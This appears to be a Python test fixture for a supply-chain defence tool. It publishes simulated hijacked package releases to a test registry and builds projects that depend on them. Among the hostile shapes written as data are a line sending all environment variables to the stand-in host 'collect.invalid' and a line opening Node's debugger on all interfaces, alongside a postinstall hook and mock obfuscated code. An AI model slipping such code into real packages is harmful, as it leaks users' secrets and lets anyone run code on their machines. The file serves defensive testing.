"""Hostile patches of many shapes, as an upstream publishes them, and projects that want them.

None of them does anything: no host in them exists, and what one would run is not there.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from tests.clients.commands import open_settings
from tests.registry import Registry

TWIN = "pratique-test-twin"
YOUNG = "pratique-test-young"
BEHAVIOR, EXOTIC = "behavior/new-capability", "registry/exotic-dependency"
PLAIN = "module.exports = (a) => a + 1;\n"
_NAMES = "".join(f"var _0x1a{n:02}=_0x2b[0x{n:x}](_0x3c{n:02});" for n in range(60))


@dataclass(frozen=True)
class Shape:
    """One way to be hostile.

    Attributes:
        package: The package that is hijacked.
        rule: What refuses it, its age aside.
        details: What its hostile patch is published with.
    """

    package: str
    rule: str = BEHAVIOR
    details: Mapping[str, Any] = field(default_factory=dict)


def shapes(forge: str) -> dict[str, Shape]:
    """Name -> shape; `forge` is a git dependency that can really be had."""
    thief = (
        "require('https').request({host: 'collect.invalid', method: 'POST'})"
        f".end(JSON.stringify(process.env));\n{PLAIN}"
    )
    # No shape of the evals opens the debugger, which lets whoever connects run anything.
    back_door = f"require('inspector').open(9229, '0.0.0.0');\n{PLAIN}"
    setup = {"index.js": PLAIN, "setup.js": "console.log(1);\n"}
    return {
        "script": Shape("pratique-test-script", details={
            "scripts": {"postinstall": "node setup.js"}, "files": setup}),
        "git": Shape("pratique-test-git", EXOTIC, {
            "dependencies": {"left-step": forge}, "files": {"index.js": PLAIN}}),
        "environment": Shape("pratique-test-environment", details={"files": {"index.js": thief}}),
        "obfuscated": Shape("pratique-test-obfuscated", details={
            "files": {"index.js": PLAIN, "lib/v.js": f"{_NAMES}\n" * 4}}),
        "young": Shape("pratique-test-younger", details={
            "dependencies": {YOUNG: "^1.0.0"}, "files": {"index.js": PLAIN}}),
        "debugger": Shape("pratique-test-debugger", details={"files": {"index.js": back_door}}),
    }  # fmt: skip


SHAPES = ("environment", "script", "git", "obfuscated", "young", "debugger")


def publish(registry: Registry, every: Mapping[str, Shape], now: datetime) -> None:
    """A good release of each, long ago, and a patch an hour ago: hostile, but for the twin's."""
    old, new = now - timedelta(days=90), now - timedelta(hours=1)
    registry.publish(YOUNG, "1.0.0", published=new, files={"index.js": PLAIN})
    for each in every.values():
        registry.publish(each.package, "1.0.0", published=old, files={"index.js": PLAIN})
        registry.publish(each.package, "1.0.1", published=new, **each.details)
    for at, version in ((old, "1.0.0"), (new, "1.0.1")):
        code = f"{PLAIN}// {version}\n"
        registry.publish(TWIN, version, published=at, files={"index.js": code})


def mend(registry: Registry, every: Mapping[str, Shape], now: datetime) -> None:
    """A good release follows everywhere."""
    for name in (TWIN, *(each.package for each in every.values())):
        code = f"{PLAIN}// mended\n"
        registry.publish(name, "1.0.2", published=now, files={"index.js": code})


def project(folder: Path, client: str, *packages: str) -> Path:
    """A project that wants any 1.x of these and of the twin; its client holds nothing back."""
    folder.mkdir()
    wanted = dict.fromkeys((*packages, TWIN), "^1.0.0")
    manifest = {"name": "p", "version": "1.0.0", "private": True, "dependencies": wanted}
    (folder / "package.json").write_text(json.dumps(manifest))
    open_settings(client, folder)
    return folder


def versions(folder: Path) -> dict[str, str]:
    """Package -> version, of what the project wants and has installed."""
    wanted = json.loads((folder / "package.json").read_text())["dependencies"]
    found = {name: folder / "node_modules" / name / "package.json" for name in wanted}
    return {
        name: json.loads(path.read_text())["version"]
        for name, path in found.items()
        if path.is_file()
    }
